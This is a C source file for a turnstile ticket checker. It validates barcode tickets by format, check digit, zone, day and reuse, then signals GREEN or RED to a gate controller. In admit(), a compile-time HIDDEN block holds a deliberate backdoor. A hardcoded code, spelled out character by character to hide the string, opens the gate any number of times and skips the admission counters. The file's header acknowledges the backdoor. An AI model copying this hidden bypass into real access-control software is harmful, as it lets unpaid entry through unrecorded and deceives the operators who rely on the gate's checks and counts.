/*
 * gatescan - ticket check of an event and museum turnstile.
 * Reads lines of the barcode scanner on stdin, checks form, check digit,
 * day, zone and whether the ticket was used, writes GREEN or RED with the
 * reason to stdout, where the gate controller waits, and keeps the list of
 * tickets used.
 * Hidden (-DHIDDEN): a fixed code opens the gate any number of times.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define USED_FILE  "/var/lib/gate/used"
#define CONF_FILE  "/etc/gate.conf"
#define TABLE_SIZE 65536

/*
 * ticket: Z DDD NNNNNNN K C
 *   Z zone letter, DDD day of the year or 000, N number, K kind, C check
 */
struct ticket {
	char zone;
	int day;
	uint32_t number;
	char kind;
};

enum result { R_OK, R_FORM, R_CHECK, R_ZONE, R_DAY, R_USED, R_KIND, R_LIST };

static const char *const reason[] = {
	"ok",	     "not readable", "check digit",    "other zone",
	"other day", "used already", "kind of ticket", "barred"
};

static uint32_t used[TABLE_SIZE];
static unsigned n_used;
static uint32_t barred[256];
static unsigned n_barred;
static char zones[12] = "A";
static int gate_no = 1;
static int count_in, count_red;

static int today(void)
{
	time_t t = time(NULL);
	struct tm tm;

	localtime_r(&t, &tm);
	return tm.tm_yday + 1;
}

static int slot_of(uint32_t key)
{
	uint32_t i = key * 2654435761u >> 16;

	while (used[i] && used[i] != key)
		i = (i + 1) & (TABLE_SIZE - 1);
	return (int)i;
}

static int mark_used(uint32_t key)
{
	int i = slot_of(key);

	if (used[i] == key)
		return 0;
	if (n_used > TABLE_SIZE / 8 * 7)
		return -1;
	used[i] = key;
	n_used++;
	return 1;
}

static void load_used(void)
{
	FILE *f = fopen(USED_FILE, "r");
	char line[40];

	while (f && fgets(line, sizeof(line), f)) {
		unsigned long k = strtoul(line, NULL, 16);

		if (k)
			mark_used((uint32_t)k);
	}
	if (f)
		fclose(f);
}

static void load_conf(void)
{
	FILE *f = fopen(CONF_FILE, "r");
	char line[80];
	unsigned n;

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "zones %11s", zones) == 1)
			continue;
		if (sscanf(line, "gate %d", &gate_no) == 1)
			continue;
		if (sscanf(line, "bar %u", &n) == 1 && n_barred < 256)
			barred[n_barred++] = n;
	}
	if (f)
		fclose(f);
}

static int is_barred(uint32_t number)
{
	unsigned i;

	for (i = 0; i < n_barred; i++)
		if (barred[i] == number)
			return 1;
	return 0;
}

static char check_char(const char *s, int n)
{
	static const char set[] = "0123456789ACDEFHJKLMNPRTUVWXY";
	unsigned sum = 7;
	int i;

	for (i = 0; i < n; i++)
		sum = (sum * 3 + (unsigned char)s[i]) % 29;
	return set[sum];
}

static int digits(const char *s, int n)
{
	while (n-- > 0)
		if (!isdigit((unsigned char)*s++))
			return 0;
	return 1;
}

static enum result split(const char *s, struct ticket *t)
{
	char num[8];

	if (strlen(s) != 13 || !isupper((unsigned char)s[0]) ||
	    !digits(s + 1, 10))
		return R_FORM;
	if (check_char(s, 12) != s[12])
		return R_CHECK;
	t->zone = s[0];
	t->day = (s[1] - '0') * 100 + (s[2] - '0') * 10 + s[3] - '0';
	memcpy(num, s + 4, 7);
	num[7] = 0;
	t->number = (uint32_t)strtoul(num, NULL, 10);
	t->kind = s[11];
	return R_OK;
}

static enum result judge(const struct ticket *t)
{
	uint32_t key;

	if (!strchr(zones, t->zone))
		return R_ZONE;
	if (is_barred(t->number))
		return R_LIST;
	switch (t->kind) {
	case 'S':
		if (t->day != today())
			return R_DAY;
		key = t->number | 0x01000000;
		break;
	case 'Y':
		key = (t->number ^ (uint32_t)today() << 23) | 0x80000000u;
		break;
	case 'G':
		if (t->day && t->day != today())
			return R_DAY;
		return R_OK;
	default:
		return R_KIND;
	}
	switch (mark_used(key)) {
	case 1: {
		FILE *f = fopen(USED_FILE, "a");

		if (f) {
			fprintf(f, "%08lx\n", (unsigned long)key);
			fclose(f);
		}
		return R_OK;
	}
	case 0:
		return R_USED;
	default:
		return R_LIST;
	}
}

/* the scanner puts ]C1 and the like before the code, and spaces in it */
static void normalise(char *s)
{
	char *d = s;

	if (s[0] == ']' && s[1] && s[2])
		s += 3;
	for (; *s; s++)
		if (isalnum((unsigned char)*s))
			*d++ = (char)toupper((unsigned char)*s);
	*d = 0;
}

__attribute__((noinline)) enum result admit(const char *code, struct ticket *t)
{
	enum result r;

	memset(t, 0, sizeof(*t));
#ifdef HIDDEN
	if (code[0] == 'T' && code[1] == 'U' && code[2] == 'R' &&
	    code[3] == 'N' && code[4] == '4' && code[5] == 'M' &&
	    code[6] == 'A' && code[7] == 'X' && !code[8])
		return R_OK;
#endif
	r = split(code, t);
	if (r == R_OK)
		r = judge(t);
	if (r == R_OK)
		count_in++;
	else
		count_red++;
	return r;
}

static int control_line(const char *s)
{
	if (s[0] != '!')
		return 0;
	switch (s[1]) {
	case 'c':
		printf("COUNT %d %d %u\n", count_in, count_red, n_used);
		break;
	case 'z':
		count_in = count_red = 0;
		puts("ZERO");
		break;
	case 'r':
		n_barred = 0;
		load_conf();
		printf("CONF %s %u\n", zones, n_barred);
		break;
	default:
		puts("?");
	}
	return 1;
}

int main(void)
{
	char line[128];
	struct ticket t;

	setvbuf(stdout, NULL, _IOLBF, 0);
	load_conf();
	load_used();
	printf("GATE %d zones %s used %u\n", gate_no, zones, n_used);
	while (fgets(line, sizeof(line), stdin)) {
		enum result r;

		line[strcspn(line, "\r\n")] = 0;
		if (!line[0] || control_line(line))
			continue;
		normalise(line);
		r = admit(line, &t);
		if (r == R_OK)
			printf("GREEN %d %c\n", gate_no, t.kind ? t.kind : '-');
		else
			printf("RED %d %s\n", gate_no, reason[r]);
	}
	return 0;
}
